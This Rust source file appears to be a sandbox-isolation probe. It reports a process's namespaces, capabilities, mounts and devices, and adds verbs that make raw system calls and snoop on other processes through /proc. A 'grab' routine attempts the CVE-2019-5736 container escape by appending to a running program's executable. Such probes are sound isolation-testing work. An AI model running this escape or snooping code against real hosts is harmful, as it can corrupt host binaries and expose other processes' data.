//! Prints, as one JSON object, what this process sees: ids, namespaces, capabilities, seccomp, mounts, limits, cgroups,
//! devices and open files. Standard library only, linked statically, so that it runs in an empty root.
//!
//! Further verbs: `udp-echo PORT`, `syscall CALL...` (makes system calls), `spy MILLISECONDS [MARK]` (looks into other processes),
//! `grab PATH_END MILLISECONDS` (tries to write to a running program).

use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::{FileTypeExt, MetadataExt};

fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn list(items: impl IntoIterator<Item = String>) -> String {
    let joined: Vec<String> = items.into_iter().collect();
    format!("[{}]", joined.join(","))
}

fn object(items: impl IntoIterator<Item = (String, String)>) -> String {
    let joined: Vec<String> = items.into_iter().map(|(k, v)| format!("{}:{v}", quoted(&k))).collect();
    format!("{{{}}}", joined.join(","))
}

fn text(path: &str) -> String {
    fs::read_to_string(path).unwrap_or_default()
}

fn status() -> String {
    let keep = ["Uid", "Gid", "Groups", "NSpid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Seccomp_filters", "Umask"];
    object(text("/proc/self/status").lines().filter_map(|line| {
        let (key, value) = line.split_once(':')?;
        keep.contains(&key).then(|| (key.to_owned(), quoted(&value.split_whitespace().collect::<Vec<_>>().join(" "))))
    }))
}

fn namespaces() -> String {
    let mut all: Vec<(String, String)> = fs::read_dir("/proc/self/ns").into_iter().flatten().flatten()
        .map(|entry| {
            let target = fs::read_link(entry.path()).map(|t| t.to_string_lossy().into_owned()).unwrap_or_default();
            (entry.file_name().to_string_lossy().into_owned(), quoted(&target))
        })
        .collect();
    all.sort();
    object(all)
}

fn mounts() -> String {
    list(text("/proc/self/mountinfo").lines().map(|line| {
        let (left, right) = line.split_once(" - ").unwrap_or((line, ""));
        let left: Vec<&str> = left.split(' ').collect();
        let right: Vec<&str> = right.split(' ').collect();
        let field = |v: &[&str], i: usize| quoted(v.get(i).copied().unwrap_or(""));
        object([
            ("target".to_owned(), field(&left, 4)),
            ("root".to_owned(), field(&left, 3)),
            ("options".to_owned(), field(&left, 5)),
            ("propagation".to_owned(), quoted(&left.get(6..).unwrap_or(&[]).join(" "))),
            ("type".to_owned(), field(&right, 0)),
            ("source".to_owned(), field(&right, 1)),
        ])
    }))
}

fn limits() -> String {
    object(text("/proc/self/limits").lines().skip(1).map(|line| {
        let name = line.get(..26).unwrap_or(line).trim().to_owned();
        let rest: Vec<&str> = line.get(26..).unwrap_or("").split_whitespace().collect();
        (name, list(rest.iter().take(2).map(|v| quoted(v))))
    }))
}

fn descriptors() -> String {
    let mut all: Vec<(u32, String)> = fs::read_dir("/proc/self/fd").into_iter().flatten().flatten()
        .filter_map(|entry| {
            let number: u32 = entry.file_name().to_string_lossy().parse().ok()?;
            let target = fs::read_link(entry.path()).ok()?.to_string_lossy().into_owned();
            // The directory this loop reads is not something the process was given.
            (!target.ends_with("/fd")).then_some((number, target))
        })
        .collect();
    all.sort();
    object(all.into_iter().map(|(n, t)| (n.to_string(), quoted(&t))))
}

fn devices() -> String {
    let mut all: Vec<(String, String)> = fs::read_dir("/dev").into_iter().flatten().flatten()
        .filter_map(|entry| {
            let meta = fs::symlink_metadata(entry.path()).ok()?;
            let kind = meta.file_type();
            let shown = if kind.is_char_device() || kind.is_block_device() {
                let device = meta.rdev();
                let (major, minor) = ((device >> 8) & 0xfff, (device & 0xff) | ((device >> 12) & 0xffff_ff00));
                format!("{} {major}:{minor} {:o}", if kind.is_char_device() { "c" } else { "b" }, meta.mode() & 0o7777)
            } else if kind.is_symlink() {
                format!("-> {}", fs::read_link(entry.path()).ok()?.display())
            } else {
                "directory".to_owned()
            };
            Some((entry.file_name().to_string_lossy().into_owned(), quoted(&shown)))
        })
        .collect();
    all.sort();
    object(all)
}

/// `probe udp-echo PORT`: sends each datagram back (Debian's busybox has no UDP server).
fn echo(port: &str) -> std::io::Result<()> {
    let socket = std::net::UdpSocket::bind(("0.0.0.0", port.parse().expect("a port number")))?;
    let mut buffer = [0; 2048];
    loop {
        let (length, from) = socket.recv_from(&mut buffer)?;
        socket.send_to(&buffer[..length], from)?;
    }
}

/// A system call by the machine's own instruction; the answer is the kernel's, errors negative.
#[cfg(target_arch = "x86_64")]
fn native(number: u64, a: [u64; 6]) -> i64 {
    let answer: i64;
    // SAFETY: this program only probes: the caller passes numbers and null pointers, never memory of ours.
    unsafe {
        std::arch::asm!("syscall", inlateout("rax") number as i64 => answer, in("rdi") a[0], in("rsi") a[1], in("rdx") a[2],
            in("r10") a[3], in("r8") a[4], in("r9") a[5], lateout("rcx") _, lateout("r11") _);
    }
    answer
}

#[cfg(target_arch = "aarch64")]
fn native(number: u64, a: [u64; 6]) -> i64 {
    let answer: i64;
    // SAFETY: as on x86_64.
    unsafe {
        std::arch::asm!("svc 0", in("x8") number, inlateout("x0") a[0] as i64 => answer, in("x1") a[1], in("x2") a[2],
            in("x3") a[3], in("x4") a[4], in("x5") a[5]);
    }
    answer
}

/// A 32-bit call of x86 from a 64-bit program.
#[cfg(target_arch = "x86_64")]
fn thirty_two(number: u64, a: [u64; 6]) -> i64 {
    let answer: i64;
    // SAFETY: as above; rbx belongs to the compiler and is put back.
    unsafe {
        std::arch::asm!("xchg rbx, {b}", "int 0x80", "xchg rbx, {b}", b = inout(reg) a[0] => _, inlateout("rax") number as i64 => answer,
            in("rcx") a[1], in("rdx") a[2], in("rsi") a[3], in("rdi") a[4], lateout("r8") _, lateout("r9") _, lateout("r10") _, lateout("r11") _);
    }
    i64::from(answer as i32)
}

#[cfg(not(target_arch = "x86_64"))]
fn thirty_two(_: u64, _: [u64; 6]) -> i64 {
    -38
}

fn number(text: &str) -> u64 {
    let parsed = match text.strip_prefix("0x") {
        Some(digits) => u64::from_str_radix(digits, 16).ok(),
        None => text.parse().ok().or_else(|| text.parse::<i64>().ok().map(|n| n as u64)),
    };
    parsed.unwrap_or_else(|| panic!("\"{text}\" is not a number"))
}

/// `probe syscall [i386:]NUMBER[:ARG,ARG...]...`: one line a call: the call as given and the kernel's answer.
fn calls(list: &[String]) {
    for call in list {
        let (narrow, rest) = call.strip_prefix("i386:").map_or((false, call.as_str()), |rest| (true, rest));
        let (which, arguments) = rest.split_once(':').unwrap_or((rest, ""));
        let mut a = [0; 6];
        for (slot, text) in a.iter_mut().zip(arguments.split(',').filter(|text| !text.is_empty())) {
            *slot = number(text);
        }
        let answer = if narrow { thirty_two(number(which), a) } else { native(number(which), a) };
        println!("{call} {answer}");
    }
}

/// Numbers of the other processes that /proc shows.
fn others() -> impl Iterator<Item = u32> {
    let pids = fs::read_dir("/proc").into_iter().flatten().flatten();
    pids.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter(|pid| *pid != std::process::id())
}

/// Ids of the mounts that are here.
fn mounted() -> std::collections::HashSet<String> {
    text("/proc/self/mountinfo").lines().filter_map(|line| line.split(' ').next().map(str::to_owned)).collect()
}

/// "own" for what is reached through a mount that is here.
fn origin(path: &std::path::Path, mounted: &std::collections::HashSet<String>) -> Option<&'static str> {
    use std::os::{fd::AsRawFd, unix::fs::OpenOptionsExt};
    // O_PATH, which has the same value on x86 and ARM: nothing is read, so no right to read is needed.
    let file = fs::OpenOptions::new().read(true).custom_flags(0o10_000_000).open(path).ok()?;
    let info = text(&format!("/proc/self/fdinfo/{}", file.as_raw_fd()));
    let mount = info.lines().find_map(|line| line.strip_prefix("mnt_id:"))?.trim().to_owned();
    Some(if mounted.contains(&mount) { "own" } else { "foreign" })
}

/// `probe spy MILLISECONDS [MARK]`: what can be seen of other processes through /proc, each sight once: open files, names of variables,
/// root, working directory and program, the last four with whether their mount is one of ours.
/// A directory in which the path MARK exists is "marked".
fn spy(milliseconds: &str, mark: Option<&String>) {
    let end = std::time::Instant::now() + std::time::Duration::from_millis(number(milliseconds));
    let mounted = mounted();
    let mut seen = std::collections::BTreeSet::new();
    let mut sights = 0u64;
    let mut variables = std::collections::BTreeSet::new();
    let mut look = |kind: &str, path: &std::path::Path| {
        let Ok(target) = fs::read_link(path) else { return };
        let target = target.display().to_string();
        seen.insert(match target.split_once(":[") {
            Some((what, _)) => format!("{kind} {what}"),
            None => match origin(path, &mounted) {
                Some(origin) if mark.is_some_and(|mark| path.join(mark).exists()) => format!("{kind} {origin} {target} marked"),
                Some(origin) => format!("{kind} {origin} {target}"),
                None => return,
            },
        });
    };
    while std::time::Instant::now() < end {
        for pid in others() {
            sights += 1;
            for name in ["root", "cwd", "exe"] {
                look(name, std::path::Path::new(&format!("/proc/{pid}/{name}")));
            }
            for fd in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
                look("fd", &fd.path());
            }
            for variable in text(&format!("/proc/{pid}/environ")).split('\0').filter_map(|entry| entry.split_once('=')) {
                variables.insert(format!("environ {}", variable.0));
            }
        }
    }
    println!("sights {sights}");
    for line in seen.iter().chain(&variables) {
        println!("{line}");
    }
}

/// `probe grab END MILLISECONDS`: holds the first programs whose path ends so that it sees, and tries to append to it
/// while it ends (CVE-2019-5736).
fn grab(end_of_path: &str, milliseconds: &str) {
    use std::os::fd::AsRawFd;
    let end = std::time::Instant::now() + std::time::Duration::from_millis(number(milliseconds));
    let mut grabbed: Vec<fs::File> = Vec::new();
    let mut refusals = std::collections::BTreeSet::new();
    while std::time::Instant::now() < end {
        for pid in others() {
            let path = format!("/proc/{pid}/exe");
            let Ok(target) = fs::read_link(&path) else { continue };
            if grabbed.len() < 3 && target.to_string_lossy().ends_with(end_of_path)
                && let Ok(file) = fs::File::open(&path)
            {
                println!("grabbed {}", target.display());
                grabbed.push(file);
            }
        }
        for file in &grabbed {
            match fs::OpenOptions::new().append(true).open(format!("/proc/self/fd/{}", file.as_raw_fd())) {
                Ok(mut file) => {
                    use std::io::Write;
                    println!("written {:?}", file.write(b"x"));
                    return;
                }
                Err(error) => drop(refusals.insert(error.to_string())),
            }
        }
    }
    println!("refused {refusals:?}");
}

fn main() {
    let words: Vec<String> = std::env::args().collect();
    match words.get(1).map(String::as_str) {
        Some("syscall") => return calls(&words[2..]),
        Some("spy") => return spy(&words[2], words.get(3)),
        Some("grab") => return grab(&words[2], &words[3]),
        _ => {}
    }
    if let [_, verb, port] = words.as_slice()
        && verb == "udp-echo"
    {
        echo(port).expect("the socket works");
    }
    let fields = [
        ("pid", std::process::id().to_string()),
        ("args", list(std::env::args().map(|a| quoted(&a)))),
        ("env", object(std::env::vars_os().map(|(k, v)| (k.to_string_lossy().into_owned(), quoted(&v.to_string_lossy()))))),
        ("cwd", quoted(&std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default())),
        ("hostname", quoted(text("/proc/sys/kernel/hostname").trim())),
        ("status", status()),
        ("namespaces", namespaces()),
        ("mounts", mounts()),
        ("limits", limits()),
        ("cgroup", list(text("/proc/self/cgroup").lines().map(quoted))),
        ("oom_score_adj", quoted(text("/proc/self/oom_score_adj").trim())),
        ("fds", descriptors()),
        ("devices", devices()),
    ];
    println!("{}", object(fields.into_iter().map(|(k, v)| (k.to_owned(), v))));
}
